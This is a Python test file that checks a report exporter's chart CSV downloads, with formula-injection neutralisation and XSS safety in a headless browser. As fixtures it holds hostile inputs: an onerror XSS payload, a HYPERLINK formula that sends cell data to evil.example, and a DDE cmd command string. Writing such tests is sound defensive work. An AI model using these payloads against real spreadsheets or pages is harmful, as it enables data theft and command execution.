"""Data out of an HTML report: every chart's "Download data (CSV)" gives exactly the rows the
chart carries, built in the page (no request), formula cells neutralised and hostile text kept
as text; the Vega actions menu offers PNG/SVG only."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from workbench.report.export import export_html

from browser import report_page, require_chromium
from conftest import SAMPLE

pytestmark = [pytest.mark.slow]

HOSTILE = "<img src=x onerror=alert(1)>"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _expected_cell(value) -> str | float | None:
    if value is None:
        return None
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_START) else value
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return float(value)
    return json.dumps(value, separators=(",", ":"))


def _datasets(spec: dict) -> list[list[dict]]:
    found = [rows for rows in (spec.get("datasets") or {}).values() if isinstance(rows, list)]

    def walk(node):
        if isinstance(node, list):
            for item in node:
                walk(item)
        elif isinstance(node, dict):
            for key, child in node.items():
                if key in ("usermeta", "datasets"):
                    continue
                if key == "data" and isinstance(child, dict) and isinstance(
                        child.get("values"), list):
                    found.append(child["values"])
                else:
                    walk(child)

    walk(spec)
    return found


def _check_csv(text: str, rows: list[dict]) -> None:
    assert text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text[1:], newline="")))
    columns = list(dict.fromkeys(k for r in rows for k in r))
    assert table[0] == columns
    assert len(table) == len(rows) + 1
    for got, row in zip(table[1:], rows, strict=True):
        for cell, key in zip(got, columns, strict=True):
            want = _expected_cell(row.get(key))
            if want is None:
                assert cell == ""
            elif isinstance(want, float):
                assert float(cell) == pytest.approx(want, rel=1e-12, abs=1e-12)
            else:
                assert cell == want, (key, cell, want)


def _download_all(path: Path, tmp: Path) -> tuple[list[tuple[dict, list[str]]], object]:
    """For each chart: its spec and the CSV texts its download links give."""
    with report_page(path) as page:
        p = page.page
        specs = p.eval_on_selector_all("script.wb-chart-spec",
                                       "nodes => nodes.map(n => n.textContent)")
        out = []
        for i, spec_text in enumerate(specs):
            spec = json.loads(spec_text)
            links = p.locator(".wb-chart").nth(i).locator("a.wb-chart-download")
            texts = []
            for k in range(links.count()):
                target = tmp / f"chart{i}-{k}.csv"
                _click_download(p, links.nth(k)).save_as(target)
                texts.append(target.read_bytes().decode("utf-8"))
            out.append((spec, texts))
        menus = p.locator(".wb-chart details.vega-embed, .wb-chart .vega-actions").count()
        actions = p.eval_on_selector_all(
            ".vega-actions a", "links => links.map(a => a.textContent.trim())")
        return out, (menus, actions, page.report())


def _click_download(page, link):
    """Click a download link; the download. Chromium drops a download that follows ten others
    within seconds (its limit on rapid downloads, not the page's), so a miss is retried once
    after a pause, as a reader clicking again would."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    for attempt in range(2):
        try:
            with page.expect_download(timeout=5_000) as info:
                link.click()
            return info.value
        except PlaywrightTimeout:
            if attempt:
                raise
            page.wait_for_timeout(2_000)
    raise AssertionError("unreachable")


def _chart_notebook(specs: list[dict]):
    cells = []
    for spec in specs:
        cell = new_code_cell("chart")
        cell.outputs = [new_output("display_data", data={
            "application/vnd.vegalite.v6+json": spec, "text/plain": "<Chart>"})]
        cell.execution_count = 1
        cells.append(cell)
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3",
                                                                  "display_name": "Python 3"}})


@pytest.fixture(scope="module")
def workbench_charts(sample_annotations):
    """The real chart builders on the real sample, plus a hostile outlet whose name and text
    carry markup and spreadsheet formulas."""
    import pandas as pd

    from workbench import analyze as an
    from workbench import charts
    from workbench.analyze.lexicon import lexicon_counts, lexicon_matches
    from workbench.charts.lexicon import frame_bars

    ann = sample_annotations
    arts = ann.articles.copy()
    evil = arts.iloc[[0]].copy()
    evil["article_id"], evil["outlet"] = "evil0000", FORMULAS[0]
    evil["text"] = f"{HOSTILE} {FORMULAS[1]} the war, “the war”, and the invasion. " * 3
    arts = pd.concat([arts, evil], ignore_index=True)
    sel = an.select_articles(arts)
    m = lexicon_matches(sel, None, ann.quotes)
    specs = [frame_bars(lexicon_counts(m, sel)).to_dict(),
             charts.voices_bars(an.voices(ann.quotes, sel, mentions=ann.mentions)).to_dict(),
             charts.entity_bar(an.entity_frequency(ann.mentions, sel)).to_dict()]
    # A chart with inline values (not top-level datasets) and every formula start.
    specs.append({"$schema": "https://vega.github.io/schema/vega-lite/v6.json",
                  "title": HOSTILE,
                  "data": {"values": [{"label": f, "n": -i, "flag": i % 2 == 0, "note": None}
                                      for i, f in enumerate([*FORMULAS, HOSTILE])]},
                  "mark": "bar", "encoding": {"y": {"field": "label", "type": "nominal"},
                                              "x": {"field": "n", "type": "quantitative"}}})
    return specs


def test_every_chart_download_is_its_data(tmp_path, workbench_charts):
    require_chromium()
    html = export_html(_chart_notebook(workbench_charts), tmp_path / "charts.html")
    charts, (menus, actions, rep) = _download_all(html, tmp_path)
    assert len(charts) == len(workbench_charts) == rep.charts == rep.rendered
    for spec, texts in charts:
        datasets = _datasets(spec)
        assert datasets and len(texts) == len(datasets)
        for text, rows in zip(texts, datasets, strict=True):
            _check_csv(text, rows)
    # The hostile chart: formula cells neutralised, markup kept as the text it is.
    last = list(csv.reader(io.StringIO(charts[-1][1][0][1:])))
    labels = [r[0] for r in last[1:]]
    assert labels == ["'" + f for f in FORMULAS] + [HOSTILE]
    assert rep.requests_blocked == [] and rep.console_errors == []
    assert rep.dialogs == [] and rep.injected == []
    # The actions menu is there, with image export only.
    assert menus == len(charts)
    assert set(actions) == {"Save as SVG", "Save as PNG"}, actions


def test_report_page_downloads_match(tmp_path_factory, cache_root, trained_model,
                                     sample_annotations):
    """A real rendered report (source bias, on the sample plus a hostile article): every
    chart's download matches its spec's data; nothing is fetched, nothing runs."""
    require_chromium()
    from workbench.report.run import render_reports

    corpus = tmp_path_factory.mktemp("hostile-data")
    for src in SAMPLE.glob("00[0-3]_*.txt"):
        shutil.copy(src, corpus / src.name)
    (corpus / "evil.txt").write_text(
        f"{HOSTILE}\nVolodymyr Zelensky said {FORMULAS[0]} in Kyiv about the war. Dmitry Peskov "
        f"said “{FORMULAS[3]} the special military operation” in Moscow.\n", encoding="utf-8")
    (corpus / "metadata.csv").write_text(
        f'file,outlet,published\nevil.txt,"{FORMULAS[2]} Times",2025-11-14\n', encoding="utf-8")
    out = tmp_path_factory.mktemp("data-out-reports")
    result = render_reports(corpus, out, cache_dir=cache_root, model=trained_model,
                            notebooks=["source_bias"])
    assert not result.failed
    tmp = tmp_path_factory.mktemp("downloads")
    charts, (menus, _, rep) = _download_all(out / result.runs[0].html, tmp)
    assert len(charts) >= 3 and rep.rendered == rep.charts == len(charts)
    for spec, texts in charts:
        for text, rows in zip(texts, _datasets(spec), strict=True):
            _check_csv(text, rows)
    joined = "".join(t for _, texts in charts for t in texts)
    assert f"'{FORMULAS[2]} Times" in joined
    assert rep.requests_blocked == [] and rep.console_errors == []
    assert rep.dialogs == [] and rep.injected == []
